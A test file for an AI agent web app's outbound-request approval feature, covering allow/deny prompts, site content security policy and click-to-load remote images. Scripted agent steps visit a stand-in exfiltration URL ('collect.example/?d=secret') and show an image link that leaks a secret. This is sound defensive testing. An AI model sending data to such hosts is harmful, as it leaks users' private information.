import { expect, test } from 'vitest'
import { inspect } from './support/inspect.ts'
import { focusedName, tabTo } from './support/keyboard.ts'
import type { Ask } from './support/provider.ts'
import { scriptedHouse } from './support/scripted-house.ts'
import type { Visitor } from './support/visitor.ts'

const scene = scriptedHouse()

/** Long enough to be something of one's own. */
const LETTER = `Answer this letter. ${'Dear Sir. '.repeat(110)}`
const EVIL = 'https://collect.example/?d=secret'

/** Each step is one model call; the first reaches for the web, which marks the conversation, whatever comes back. */
function play(...steps: ((ask: Ask) => void)[]): void {
  const rest = [
    (ask: Ask) => ask.call('shell', { command: 'curl -s --max-time 1 http://93.184.215.14/ || true' }),
    ...steps,
  ]
  scene.provider.answer((ask) => {
    const step = rest.shift()
    if (step) step(ask)
    else ask.say('That is all.')
    ask.end()
  })
}

const reach = (ask: Ask) => ask.call('browser_visit', { citation_id: 1, url: EVIL })

async function asked(visitor: Visitor, host: string) {
  const card = visitor.talk.getByRole('region', { name: new RegExp(host) })
  await card.waitFor()
  return card
}

test('a call that waits says what it wants, is denied by keyboard, and says so after a reload', async () => {
  const visitor = await scene.house.visit()
  const { page } = visitor
  play(reach)
  await visitor.send(LETTER)
  const card = await asked(visitor, 'collect.example')
  await card.getByText(`GET ${EVIL}`).waitFor()
  await page.getByRole('status').getByText('The agent waits for your answer about collect.example.').waitFor()
  await page.getByRole('banner').or(page.locator('.talk-header')).getByText('Waits for you').waitFor()
  await page.getByText('Outside content').waitFor()
  await visitor.list.getByRole('img', { name: 'Waits for you' }).waitFor()
  await visitor.picture('approval')

  await page.reload()
  await asked(visitor, 'collect.example')
  await page.getByRole('button', { name: 'Show' }).focus()
  await page.keyboard.press('Enter')
  await tabTo(page, /^Deny$/)
  await page.keyboard.press('Enter')
  await visitor.talk.getByText('You denied collect.example.').waitFor()
  expect(await focusedName(page)).toContain('You denied')
  await visitor.answered()
  await visitor.answers.getByText('That is all.').waitFor()
  expect(await page.getByText('Waits for you').count()).toBe(0)

  await page.reload()
  await visitor.talk.getByText('You denied collect.example.').waitFor()
  await page.getByText('Outside content').waitFor()
  await visitor.leave()
})

test('once, and for this host; two tabs agree', async () => {
  const visitor = await scene.house.visit()
  const { page } = visitor
  play(reach, reach, reach)
  await visitor.send(LETTER)
  await asked(visitor, 'collect.example')
  const tab = await visitor.openTab()
  await asked(tab, 'collect.example')
  await tabTo(page, /^Allow once$/, 'Shift+Tab')
  await page.keyboard.press('Enter')
  await visitor.talk.getByText('You allowed collect.example once.').waitFor()
  await tab.talk.getByText('You allowed collect.example once.').waitFor()

  const again = await asked(tab, 'collect.example')
  await again.getByRole('button', { name: 'Allow this host' }).press('Enter')
  await visitor.talk.getByText('You allowed collect.example in this conversation.').waitFor()
  await visitor.answered()
  await visitor.answers.getByText('That is all.').waitFor()
  await visitor.leave()
})

test('a site that names a host waits, and the host is opened and closed beside its preview', async () => {
  const visitor = await scene.house.visit({ viewport: { width: 1440, height: 900 } })
  const { page } = visitor
  const content = '<!doctype html><title>Plan</title><a href="https://collect.example/">More</a>'
  const site = { type: 'static', local_dir: 'output/site' }
  play(
    (ask) => ask.call('write_file', { file_path: 'output/site/index.html', content }),
    (ask) => ask.call('deploy_website', site),
  )
  await visitor.send(LETTER)
  const card = await asked(visitor, 'collect.example')
  await card.getByText('/mnt/okcomputer/output/site').waitFor()
  await visitor.picture('approval-site')
  await card.getByRole('button', { name: 'Allow once' }).press('Enter')
  await visitor.answered()
  await visitor.site.getByText('More').waitFor()
  await visitor.workbench.getByText('1 other host').click()
  const open = visitor.workbench.getByRole('checkbox', { name: 'Let the pages reach collect.example' })
  expect(await open.isChecked()).toBe(false)
  await listed(visitor)
  await open.focus()
  await page.keyboard.press('Space')
  await expect.poll(() => policyOf(visitor)).toContain('https://collect.example')
  await visitor.picture('site-hosts')
  await expect.poll(() => open.isEnabled()).toBe(true)
  await open.press('Space')
  await expect.poll(() => policyOf(visitor)).not.toContain('https://collect.example')
  await visitor.leave()
})

/** Waits for the list of sites, which follows the session by moments. */
async function listed(visitor: Visitor): Promise<void> {
  const path = `/api/deployments?conversation=${visitor.conversation}`
  const sites = async () => (await visitor.api<{ deployments: unknown[] }>(path)).deployments.length
  await expect.poll(sites).toBe(1)
}

async function policyOf(visitor: Visitor): Promise<string> {
  const address = (await visitor.page.locator('iframe').getAttribute('src')) ?? ''
  const response = await visitor.context.request.get(address)
  return response.headers()['content-security-policy'] ?? ''
}

test('the account turns it off and on again by keyboard', async () => {
  const visitor = await scene.house.visit({ path: '/settings' })
  const { page } = visitor
  const choice = page.getByRole('checkbox', { name: 'Ask me before data of mine could leave' })
  await expect.poll(() => choice.isEnabled()).toBe(true)
  expect(await choice.isChecked()).toBe(true)
  await choice.focus()
  await page.keyboard.press('Space')
  await expect.poll(() => visitor.api('/api/account-settings')).toEqual({ approvals: false })
  await page.reload()
  await expect.poll(() => choice.isChecked()).toBe(false)
  await choice.press('Space')
  await expect.poll(() => visitor.api('/api/account-settings')).toEqual({ approvals: true })
  await visitor.leave()
})

test('an image on another host is not asked for without a click', async () => {
  const visitor = await scene.house.visit({ mayComplain: /status of 4\d\d/ })
  const { page } = visitor
  scene.provider.answer((ask) => {
    ask.say('Look: ![a cat](https://pictures.example/cat.png?d=secret) and ![own](output/dot.png)')
    ask.end()
  })
  await visitor.send('Show me')
  await visitor.answered()
  const requests: string[] = []
  page.on('request', (request) => requests.push(request.url()))
  const button = visitor.talk.getByRole('button', { name: 'Load image from pictures.example' })
  await button.waitFor()
  await page.reload()
  await button.waitFor()
  expect(requests.filter((url) => url.includes('cat.png'))).toEqual([])
  await button.focus()
  await page.keyboard.press('Enter')
  await visitor.talk.getByRole('alert').waitFor()
  expect(requests.filter((url) => url.includes('cat.png'))).toEqual([
    `${scene.house.url}/api/remote-images?${new URLSearchParams({ url: 'https://pictures.example/cat.png?d=secret' })}`,
  ])
  await visitor.leave()
})

test('what waits is readable, wide and narrow, light and dark, in both languages', async () => {
  const defects: string[] = []
  for (const viewport of [
    { width: 1440, height: 900 },
    { width: 390, height: 844 },
  ]) {
    for (const [colorScheme, locale, name] of [
      ['light', 'en-US', 'Allow once'],
      ['dark', 'zh-CN', '允许一次'],
    ] as const) {
      const visitor = await scene.house.visit({ viewport, colorScheme, locale })
      play(reach)
      await visitor.send(LETTER)
      await visitor.talk.getByRole('button', { name }).waitFor()
      const found = await inspect(visitor.page, { target: 24 })
      defects.push(...found.map((defect) => `${viewport.width} ${colorScheme}: ${defect}`))
      await visitor.picture(`approval-${viewport.width}-${colorScheme}`)
      await visitor.leave()
    }
  }
  expect(defects).toEqual([])
})
